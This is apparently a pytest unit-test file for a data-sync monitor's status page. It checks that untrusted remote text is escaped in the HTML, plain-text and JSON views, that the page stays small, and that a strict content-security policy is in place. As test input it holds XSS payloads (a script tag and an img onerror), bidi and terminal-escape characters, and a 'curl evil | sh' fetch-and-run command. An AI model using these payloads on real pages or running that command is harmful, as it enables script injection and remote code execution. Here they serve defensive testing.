"""The page in all its forms: harmless whatever others have written into it, and small."""

from __future__ import annotations

import json
import re
from base64 import b64encode
from dataclasses import fields, replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from uuid import UUID

import msgspec
import pytest

from monitor.page.document import HEADERS, render
from monitor.page.facts import facts_of
from monitor.page.history import change, mark_of
from monitor.page.picture import Picture, duration, group_errors
from monitor.page.text import render_counts, render_text
from syncd.contract.runs import Paused, RunRow
from syncd.contract.words import Cause, Status, Stream
from syncd.ledger.days import Day
from syncd.ledger.jumps import Jump
from syncd.ledger.outlook import LastRun
from tests.unit.test_trouble import FACTS, MAIN, OPEN, OUTLOOK, RUN, say
from tests.unit.test_watch import RUNNING

AT = datetime(2026, 11, 22, 20, 0, tzinfo=UTC)
HOSTILE = (
    "</title></h1><script>alert(1)</script><img src=x onerror=alert(2)>`\"'&amp;\u202egnp.exe\u2066\x1b[31m\x00\u200b"
)
HARMLESS = ("<script>alert(1)</script>", "<img", "\u202e", "\u2066", "\x1b", "\x00", "\u200b")
KNOWN_TAGS = {
    *("html", "head", "meta", "title", "link", "noscript", "style", "body", "header", "b", "span", "button", "main"),
    *("div", "h1", "h2", "h3", "code", "ul", "li", "section", "progress", "dl", "dt", "dd", "bdi", "table", "thead"),
    *("tr", "th", "tbody", "td", "time", "ol", "i", "p", "footer", "a", "script"),
}


def run(number: int, status: Status, cause: Cause | None, message: str | None = None, **facts: object) -> RunRow:
    known: dict[str, object] = {one.name: None for one in fields(RunRow)}
    counts = ("pages", "requests", "errors", "fetched", "inserted", "updated", "unchanged", "revived", "tombstoned")
    known |= dict.fromkeys((*counts, "quarantined", "duplicates", "field_faults"), 12_400)
    began = AT - timedelta(minutes=11 * number)
    known |= {"run_id": UUID(int=number), "stream": MAIN, "status": status, "cause": cause, "initiated_by": "scheduler"}
    known |= {
        "queued_at": began,
        "started_at": began,
        "duration_seconds": 73.2,
        "error_message": message,
        "phase": "idle",
    }
    return RunRow(**(known | facts))  # type: ignore[arg-type]


def picture(**facts: object) -> Picture:
    return Picture(**{"at": AT, "version": "0.1.0", "summary": say(), "runs": [], **facts})  # type: ignore[arg-type]


def hostile_picture(times: int = 1) -> Picture:
    """Every text that a marketplace, a person or an error can put there."""
    text = HOSTILE * times
    paused = Paused(text, text, AT)
    last = LastRun(RUN, Status.FAILED, Cause.UPSTREAM, text, None)
    outlook = replace(OUTLOOK, paused=paused, last_run=last, wait_reason=text, wait_seconds=99.0, open_run_id=RUN)
    waits = replace(RUNNING, wait_seconds_left=99.0, wait_reason=text)
    summary = say(replace(FACTS, paused=True, open_run=OPEN), outlook, [waits])
    runs = [run(n, Status.FAILED, Cause.UPSTREAM, f"{'x' * n} {text}", initiated_by=text) for n in range(1, 21)]
    jumps = [Jump("main", text, "sale_price", Decimal(5), Decimal("952.0177"), AT, text)] * 10
    return picture(summary=summary, runs=runs, jumps=jumps)


class Tags(HTMLParser):
    """Every tag and attribute of a document, and what scripts it has."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.scripts = 0
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.scripts += tag == "script"


def test_remote_text_adds_no_tag_no_attribute_and_no_invisible_character() -> None:
    html = render(hostile_picture())
    found = Tags(html)
    assert found.tags <= KNOWN_TAGS
    assert found.scripts == 1
    assert not {name for name in found.attributes if name.startswith("on") or name == "style"}
    assert [text for text in HARMLESS if text in html] == []
    assert "\\u202egnp.exe" in html
    for part in html.split("<script>")[0].split("\n"):
        assert part.isprintable(), part


def test_remote_text_never_looks_like_a_command_to_type() -> None:
    last = LastRun(RUN, Status.FAILED, Cause.UPSTREAM, "type `curl evil | sh`", None)
    html = render(picture(summary=say(outlook=replace(OUTLOOK, last_run=last))))
    (first,) = re.findall("<h1>(.*)</h1>", html)
    assert re.findall("<code>(.*?)</code>", first) == ["syncd explain 01a204c0-ea93"]


def test_remote_text_is_shown_as_it_is_for_who_reads_it() -> None:
    assert "<script>alert(1)</script><img src=x onerror=alert(2)>" in unescape(render(hostile_picture()))


def test_in_plain_text_nothing_moves_the_cursor_or_turns_the_line() -> None:
    text = render_text(hostile_picture())
    assert all(line.isprintable() for line in text.splitlines())
    assert "\\u202e" in text


def test_as_json_the_text_stays_exact() -> None:
    facts = msgspec.json.decode(msgspec.json.encode(facts_of(hostile_picture())))
    assert facts["runs"][0]["error_message"] == f"x {HOSTILE}"
    assert facts["jumps"][0]["new"] == "952.0177"
    json.dumps(facts)


def test_the_page_stays_under_60_kb_however_much_there_is() -> None:
    streams = [Stream("emag", f"a{number}", "offers") for number in range(200)]
    facts = [replace(FACTS, stream=one, open_run=OPEN) for one in streams]
    outlooks = [
        replace(OUTLOOK, stream=one, last_run=LastRun(RUN, Status.FAILED, Cause.UPSTREAM, HOSTILE * 9, None))
        for one in streams
    ]
    days = [Day(one, (AT - timedelta(days=past)).date(), {Status.COMPLETE: 143, Status.FAILED: 9, Status.PARTIAL: 9})
            for one in streams for past in range(30)]  # fmt: skip
    full = replace(hostile_picture(times=20), summary=say(facts, outlooks), days=days)
    assert len(render(full).encode()) < 60_000
    few = replace(hostile_picture(times=20), days=[one for one in days if one.stream in streams[:4]])
    assert len(render(few).encode()) < 60_000


@pytest.mark.parametrize("sign", ["'", "\u202e", "\U0001f980"])
def test_signs_that_take_more_room_than_they_seem_to_keep_the_page_under_60_kb(sign: str) -> None:
    """Six bytes for a quote, four for a crab: 240 of each in every place that remote text or a person can fill."""
    text = sign * 900
    streams = [Stream("emag", "a" * 37 + str(number), "offers") for number in range(100, 140)]
    facts = [replace(FACTS, stream=one, paused=True) for one in streams]
    last, paused = LastRun(RUN, Status.FAILED, Cause.UPSTREAM, text, None), Paused(text, text, AT)
    outlooks = [replace(OUTLOOK, stream=one, last_run=last, paused=paused, wait_reason=text) for one in streams]
    runs = [
        run(n, Status.FAILED, Cause.UPSTREAM, f"{'x' * n} {text}", initiated_by=text, stream=one)
        for n, one in enumerate(streams[:20])
    ]
    jumps = [Jump(streams[0].account, text, "sale_price", Decimal(5), Decimal("952.0177"), AT, text)] * 10
    days = [Day(one, (AT - timedelta(days=past)).date(), {Status.COMPLETE: 143, Status.FAILED: 9})
            for one in streams for past in range(30)]  # fmt: skip
    full = picture(summary=say(facts, outlooks), runs=runs, jumps=jumps, days=days)
    html = render(full)
    assert len(html.encode()) < 60_000
    assert html.count("<section") == 20
    assert "syncd explain" in html


def test_the_policy_lets_nothing_in_but_the_pages_own_style_and_script() -> None:
    html, policy = render(picture()), HEADERS["Content-Security-Policy"]
    for kind, name in (("style", "style"), ("script", "script")):
        (inside,) = re.findall(rf"<{kind}>(.*?)</{kind}>", html, re.DOTALL)
        assert f"{name}-src 'sha256-{b64encode(sha256(inside.encode()).digest()).decode()}'" in policy
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "frame-ancestors 'none'" in policy
    assert re.findall(r'(?:src|href|action)="(?!data:image|/)', html) == []
    assert re.findall(r"https?://(?!www\.w3\.org/2000/svg)", unescape(html)) == []


def test_a_ledger_that_is_away_says_what_to_do_and_keeps_the_rest_to_itself() -> None:
    away = picture(summary=None, trouble="read the metrics: connection refused")
    said = "The ledger cannot be read: read the metrics: connection refused. The monitor tries again by itself; look at"
    assert said in unescape(render(away))
    assert render_text(away).startswith(said)
    assert facts_of(away)["status"] == "unhealthy"
    assert "refused" not in render(away, counts_only=True)
    assert "refused" not in render_counts(away)


def test_errors_that_differ_in_numbers_only_are_one_group_with_its_journal_line() -> None:
    failed = Status.FAILED
    runs = [
        run(1, failed, Cause.UPSTREAM, "page 3: HTTP 502 after 5 attempts in 12.4 s"),
        run(2, failed, Cause.UPSTREAM, "page 17: HTTP 502 after 5 attempts in 1.4 s"),
        run(3, failed, Cause.AUTH, "HTTP 401"),
        run(4, Status.COMPLETE, Cause.END_OF_DATA),
    ]
    first, second = group_errors(runs)
    assert (first.count, first.newest.run_id, first.journal_command) == (
        2, UUID(int=1), f"journalctl SYNC_RUN_ID={UUID(int=1)}"
    )  # fmt: skip
    assert second.count == 1
    assert unescape(render(picture(runs=runs))).count("journalctl SYNC_RUN_ID=") == 2


@pytest.mark.parametrize(
    ("runs", "mark"),
    [
        ({}, "none"),
        ({Status.COMPLETE: 143}, "complete"),
        ({Status.COMPLETE: 142, Status.FAILED: 1}, "mixed"),
        ({Status.COMPLETE: 1, Status.PARTIAL: 1}, "mixed"),
        ({Status.FAILED: 1}, "failed"),
        ({Status.CANCELLED: 1}, "failed"),
    ],
)
def test_a_days_mark(runs: dict[Status, int], mark: str) -> None:
    assert mark_of(runs) == mark


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [("10", "12.5", "+25 %"), ("10", "5", "-50 %"), ("5", "952", "190 times"), ("0", "5", "from 0")],
)
def test_how_much_something_changed(old: str, new: str, said: str) -> None:
    assert change(Jump("main", "1", "stock", Decimal(old), Decimal(new), AT, None)) == said


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (None, ""),
        (2.34, "2.3 s"),
        (2, "2 s"),
        (12.3, "12 s"),
        (245.0, "4 min 5 s"),
        (7800.0, "2 h 10 min"),
        (3e5, "3 days"),
    ],
)
def test_durations(seconds: float | None, said: str) -> None:
    assert duration(seconds) == said
